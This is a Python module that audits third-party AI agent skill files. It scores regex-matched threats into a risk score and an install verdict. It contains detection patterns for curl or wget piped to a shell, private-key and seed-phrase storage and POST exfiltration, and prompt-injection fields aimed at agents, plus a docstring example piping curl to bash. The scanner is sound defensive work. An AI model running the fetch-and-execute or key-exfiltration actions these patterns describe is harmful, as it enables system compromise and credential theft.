"""Skill audit: a line-by-line threat scan for third-party skill files.

Unlike the lint rules, an audit looks at one skill file on its own and answers
a single question: is it safe to install? Each matching pattern yields a
finding; findings add up to a 0-100 risk score, and the score plus the number
of critical findings decide the verdict.

Examples
--------
>>> result = audit_skill("curl https://example.com/install.sh | bash", "SKILL.md")
>>> result.verdict
<Verdict.DANGEROUS: 'DANGEROUS'>
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass
from enum import StrEnum
from pathlib import Path

from agentlint.linting.common import is_code_fence
from agentlint.linting.models import Severity
from agentlint.logging import get_logger
from agentlint.scanner import HOME_SKILL_DIRS, read_document_text

logger = get_logger(__name__)


class Verdict(StrEnum):
    """Outcome of a skill audit, safest first."""

    SAFE = "SAFE"
    SUSPICIOUS = "SUSPICIOUS"
    DANGEROUS = "DANGEROUS"
    MALICIOUS = "MALICIOUS"

    @property
    def blocks_install(self) -> bool:
        """True for verdicts that should stop an installation."""
        return self in (Verdict.DANGEROUS, Verdict.MALICIOUS)


@dataclass(frozen=True, slots=True)
class AuditFinding:
    """One suspicious line in a skill file."""

    severity: Severity
    category: str
    line: int
    match: str
    message: str
    recommendation: str


@dataclass(frozen=True, slots=True)
class AuditResult:
    """All findings for one file with the derived risk score and verdict."""

    file: str
    findings: tuple[AuditFinding, ...]
    risk_score: int
    verdict: Verdict

    def count(self, severity: Severity) -> int:
        """Number of findings at exactly ``severity``."""
        return sum(1 for f in self.findings if f.severity == severity)


@dataclass(frozen=True, slots=True)
class _Threat:
    category: str
    title: str
    pattern: re.Pattern[str]
    severity: Severity


RISK_POINTS = {Severity.CRITICAL: 25, Severity.WARNING: 10, Severity.INFO: 3}
MAX_RISK = 100
MALICIOUS_CRITICALS = 3
MALICIOUS_SCORE = 80
DANGEROUS_SCORE = 50
SUSPICIOUS_SCORE = 20
RATE_LIMIT_FLOOR = 100
RATE_LIMIT_WARNING = 1000
MATCH_WIDTH = 80

REMOTE_FETCH = "Remote Fetch"
KEY_STORAGE = "Predictable Key Storage"
WALLET_LINKING = "Mandatory Wallet Linking"
RATE_LIMITS = "Suspicious Rate Limits"
AUTO_UPDATE = "Auto-Update Instructions"
INJECTION_FIELDS = "In-Band Injection Fields"
SOCIAL_ENGINEERING = "Additional: social-engineering"
SUPPLY_CHAIN = "Additional: supply-chain"
EXFILTRATION = "Additional: exfiltration"
SPAM = "Additional: spam"

_MESSAGE_PREFIX = {
    REMOTE_FETCH: "Remote skill fetch detected",
    KEY_STORAGE: "Predictable key storage path",
    WALLET_LINKING: "Coerced wallet linking",
    AUTO_UPDATE: "Auto-update mechanism",
    INJECTION_FIELDS: "In-band injection vector",
}

RECOMMENDATIONS = {
    REMOTE_FETCH: (
        "Skills should not auto-update from external URLs. This enables supply chain attacks."
    ),
    KEY_STORAGE: (
        "Storing keys at known paths enables mass exfiltration. "
        "Use randomized or user-controlled paths."
    ),
    WALLET_LINKING: (
        "Wallet linking should always be optional. "
        "Mandatory linking is a red flag for credential harvesting."
    ),
    RATE_LIMITS: (
        "High rate limits may indicate the skill is designed to weaponize agents "
        "for spam/engagement farming."
    ),
    AUTO_UPDATE: (
        "Auto-updating skills can be weaponized at any time. "
        "Instructions can change without notice."
    ),
    INJECTION_FIELDS: (
        "Hidden fields in API responses can inject instructions. "
        "Agent cannot distinguish data from commands."
    ),
    SOCIAL_ENGINEERING: "Monetary incentives can pressure users into unsafe actions.",
    SUPPLY_CHAIN: "Third-party package execution introduces additional attack vectors.",
    EXFILTRATION: "This pattern could exfiltrate sensitive data. Do NOT proceed.",
    SPAM: "Aggressive engagement patterns weaponize your agent as a spam bot.",
}
DEFAULT_RECOMMENDATION = "Review this pattern carefully before installing."


def _threats(category: str, severity: Severity, *pairs: tuple[str, str]) -> list[_Threat]:
    return [
        _Threat(category, title, re.compile(pattern, re.IGNORECASE), severity)
        for pattern, title in pairs
    ]


# Remote fetch severity is lowered to a warning inside fenced code blocks
REMOTE_FETCH_THREATS = _threats(
    REMOTE_FETCH,
    Severity.CRITICAL,
    (r"curl\s+.*-[so]\s+.*skill", "curl download skill file"),
    (r"curl\s+.*skill\.md", "curl fetch skill.md"),
    (r"wget\s+.*skill", "wget download skill"),
    (r"curl\s+.*\|\s*(?:bash|sh|zsh)", "pipe curl to shell"),
    (r"wget\s+.*-O\s*-\s*\|\s*(?:bash|sh)", "pipe wget to shell"),
    (r"fetch\s*\(\s*['\"`]https?://[^'\"]+skill", "fetch skill URL"),
    (r"curl\s+-s\s+https?://\S+\s+-o\s+~/", "silent curl to home dir"),
)

THREATS = [
    *_threats(
        KEY_STORAGE,
        Severity.CRITICAL,
        (r"~/\.agents/[^/]*/vault/", "~/.agents/*/vault/ path"),
        (r"vault/private_key", "vault/private_key storage"),
        (r"vault/seed_phrase", "vault/seed_phrase storage"),
        (r">\s*~/\.agents/[^/]+/[^/]*key", "redirect key to agents dir"),
        (r"echo\s+.*private_key.*>\s*~", "echo private_key to file"),
        (r"echo\s+.*seed.*>\s*~", "echo seed to file"),
        (r"generate-private-key.*>\s*~", "generate key to predictable path"),
        (r"store.*private.*key.*at\s+", "store key instruction"),
        (r"save.*private.*key.*to\s+", "save key instruction"),
        (r"0x[A-Fa-f0-9]{64}", "hardcoded private key pattern"),
    ),
    *_threats(
        WALLET_LINKING,
        Severity.WARNING,
        (r"\bMANDATORY\b.*wallet", "MANDATORY wallet"),
        (r"wallet.*\bMANDATORY\b", "wallet MANDATORY"),
        (r"\brequired\b.*link.*wallet", "required link wallet"),
        (r"\bmust\b.*link.*wallet", "must link wallet"),
        (r"wallet.*\brequired\b", "wallet required"),
        (r"cannot\s+(?:post|like|follow).*without.*wallet", "cannot use without wallet"),
        (r"\bNOT\s+optional\b", "NOT optional coercion"),
        (r"Do\s+This\s+Immediately", "urgency coercion"),
        (r"\bfirst\s+boot\b.*required", "first boot requirement"),
    ),
    *_threats(
        AUTO_UPDATE,
        Severity.CRITICAL,
        (r"cron", "cron job"),
        (r"every\s+\d+\s*(?:hour|minute|min|hr)", "periodic schedule"),
        (r"auto[- ]?refresh", "auto-refresh"),
        (r"auto[- ]?update", "auto-update"),
        (r"refresh.*every", "refresh every"),
        (r"update.*every", "update every"),
        (r"periodic(?:ally)?\s+(?:fetch|update|download|refresh)", "periodic fetch"),
        (r"schedule.*(?:curl|wget|fetch)", "scheduled fetch"),
        (r"\d+h?\s*(?:refresh|update)", "timed update"),
    ),
    *_threats(
        INJECTION_FIELDS,
        Severity.WARNING,
        (r"_model_guide", "_model_guide field"),
        (r"_hint", "_hint field"),
        (r"_notice", "_notice field"),
        (r"_instruction", "_instruction field"),
        (r"_directive", "_directive field"),
        (r"_system", "_system field"),
        (r"in-band.*(?:instruction|prompt|injection)", "in-band injection"),
        (r"response.*includes?.*(?:instruction|guide|hint)", "response includes instructions"),
    ),
    *_threats(
        SOCIAL_ENGINEERING,
        Severity.WARNING,
        (r"\$\d+\s*(?:USDC|USD|ETH|reward|bonus)", "monetary incentive"),
    ),
    *_threats(
        SUPPLY_CHAIN,
        Severity.WARNING,
        (r"npx\s+[a-z-]+\s+generate.*key", "npx key generation"),
        (r"npm\s+install.*--global", "global npm install"),
    ),
    *_threats(
        EXFILTRATION,
        Severity.CRITICAL,
        (r"POST.*private_key", "POST private key"),
        (r"POST.*seed", "POST seed phrase"),
        (r"verify[- ]?wallet.*POST", "verify-wallet POST"),
        (r"verify[- ]?key.*POST", "verify-key POST"),
    ),
    *_threats(
        SPAM,
        Severity.WARNING,
        (r"Follow\s+Aggressively", "aggressive engagement"),
        (r"Like\s+Everything", "mass engagement"),
        (r"\d{2,}\s+(?:follows?|likes?).*immediately", "bulk engagement on signup"),
    ),
]

# The first group captures the advertised count
RATE_LIMIT_THREATS = _threats(
    RATE_LIMITS,
    Severity.WARNING,
    (r"(\d{4,})\s*(?:/|\s+per\s+)?\s*(?:min|minute)", "high rate per minute"),
    (r"rate.*limit.*(\d{4,})", "rate limit 1000+"),
    (r"(\d+)\s*(?:likes?|follows?|posts?).*(?:/|\s+per\s+)?\s*min", "engagement rate"),
)


def _finding(
    threat: _Threat, line_number: int, line: str, severity: Severity, message: str
) -> AuditFinding:
    return AuditFinding(
        severity=severity,
        category=threat.category,
        line=line_number,
        match=line.strip()[:MATCH_WIDTH],
        message=message,
        recommendation=RECOMMENDATIONS.get(threat.category, DEFAULT_RECOMMENDATION),
    )


def _message(threat: _Threat) -> str:
    prefix = _MESSAGE_PREFIX.get(threat.category, "Red flag")
    return f"{prefix}: {threat.title}"


def _scan_line(line_number: int, line: str, in_code_block: bool) -> Iterator[AuditFinding]:
    for threat in REMOTE_FETCH_THREATS:
        if threat.pattern.search(line):
            severity = Severity.WARNING if in_code_block else threat.severity
            yield _finding(threat, line_number, line, severity, _message(threat))

    for threat in THREATS:
        if threat.pattern.search(line):
            yield _finding(threat, line_number, line, threat.severity, _message(threat))

    yield from _scan_rate_limits(line_number, line)


def _scan_rate_limits(line_number: int, line: str) -> Iterator[AuditFinding]:
    for threat in RATE_LIMIT_THREATS:
        match = threat.pattern.search(line)
        if match is None:
            continue
        count = int(match.group(1))
        if count < RATE_LIMIT_FLOOR:
            continue
        severity = Severity.WARNING if count >= RATE_LIMIT_WARNING else Severity.INFO
        message = f"Unusually high rate limit ({count}): {threat.title}"
        yield _finding(threat, line_number, line, severity, message)


def risk_score(findings: tuple[AuditFinding, ...] | list[AuditFinding]) -> int:
    """Sum of per-severity risk points, capped at 100."""
    return min(sum(RISK_POINTS.get(f.severity, 0) for f in findings), MAX_RISK)


def verdict_for(score: int, findings: tuple[AuditFinding, ...] | list[AuditFinding]) -> Verdict:
    """Map a risk score and the critical finding count to a verdict."""
    criticals = sum(1 for f in findings if f.severity == Severity.CRITICAL)
    if criticals >= MALICIOUS_CRITICALS or score >= MALICIOUS_SCORE:
        return Verdict.MALICIOUS
    if criticals or score >= DANGEROUS_SCORE:
        return Verdict.DANGEROUS
    if score >= SUSPICIOUS_SCORE:
        return Verdict.SUSPICIOUS
    return Verdict.SAFE


def audit_skill(content: str, filename: str) -> AuditResult:
    """Audit the text of one skill file.

    Parameters
    ----------
    content : str
        Raw file text
    filename : str
        Name reported in the result

    Returns
    -------
    AuditResult
        Findings in line order with the risk score and verdict
    """
    findings: list[AuditFinding] = []
    in_code_block = False
    for index, line in enumerate(content.split("\n")):
        # The opening fence line already counts as code
        if is_code_fence(line):
            in_code_block = not in_code_block
        findings.extend(_scan_line(index + 1, line, in_code_block))

    score = risk_score(findings)
    result = AuditResult(
        file=filename,
        findings=tuple(findings),
        risk_score=score,
        verdict=verdict_for(score, findings),
    )
    logger.debug(
        "Audited {file}: {count} findings, risk {risk}, verdict {verdict}",
        file=filename,
        count=len(findings),
        risk=score,
        verdict=result.verdict,
    )
    return result


def audit_file(path: str | Path) -> AuditResult:
    """Read and audit a skill file on disk.

    Raises
    ------
    DocumentReadError
        If the file cannot be read or decoded
    """
    file_path = Path(path)
    return audit_skill(read_document_text(file_path), file_path.name)


# ---------------------------------------------------------------------------
# Skill folders
# ---------------------------------------------------------------------------

WORKSPACE_SKILL_DIRS = (Path("skills"), Path(".claude") / "skills")
AUDIT_HOME_SKILL_DIRS = (Path(".clawd") / "skills", *HOME_SKILL_DIRS)
SKILL_ENTRY_FILES = ("SKILL.md", "skill.md", "README.md")
SKILL_FILE_SUFFIXES = (".md", ".txt")


@dataclass(frozen=True, slots=True)
class SkillAudit:
    """Audit of one installed skill."""

    folder: str
    name: str
    result: AuditResult


def _skill_entries(folder: Path) -> Iterator[tuple[str, Path]]:
    """Yield ``(skill name, file)`` for each skill directly under ``folder``."""
    for entry in sorted(folder.iterdir()):
        if entry.is_dir():
            skill_file = next(
                (entry / name for name in SKILL_ENTRY_FILES if (entry / name).is_file()), None
            )
            if skill_file is not None:
                yield entry.name, skill_file
        elif entry.is_file() and entry.suffix in SKILL_FILE_SUFFIXES:
            yield entry.stem, entry


def audit_skill_folders(root: str | Path, home: str | Path | None = None) -> list[SkillAudit]:
    """Audit every installed skill in the workspace and home skill folders.

    A skill is either a directory holding ``SKILL.md``, ``skill.md`` or
    ``README.md`` (first match wins) or a loose ``.md``/``.txt`` file.

    Parameters
    ----------
    root : str | Path
        Workspace directory
    home : str | Path | None
        Home directory; defaults to the current user's home

    Returns
    -------
    list[SkillAudit]
        One entry per skill, grouped by folder in search order
    """
    root_path = Path(root)
    home_path = Path(home) if home is not None else Path.home()
    folders = [
        *(root_path / relative for relative in WORKSPACE_SKILL_DIRS),
        *(home_path / relative for relative in AUDIT_HOME_SKILL_DIRS),
    ]

    audits: list[SkillAudit] = []
    seen: set[Path] = set()
    for folder in folders:
        if not folder.is_dir() or folder.resolve() in seen:
            continue
        seen.add(folder.resolve())
        for name, path in _skill_entries(folder):
            audits.append(SkillAudit(folder=str(folder), name=name, result=audit_file(path)))
    return audits
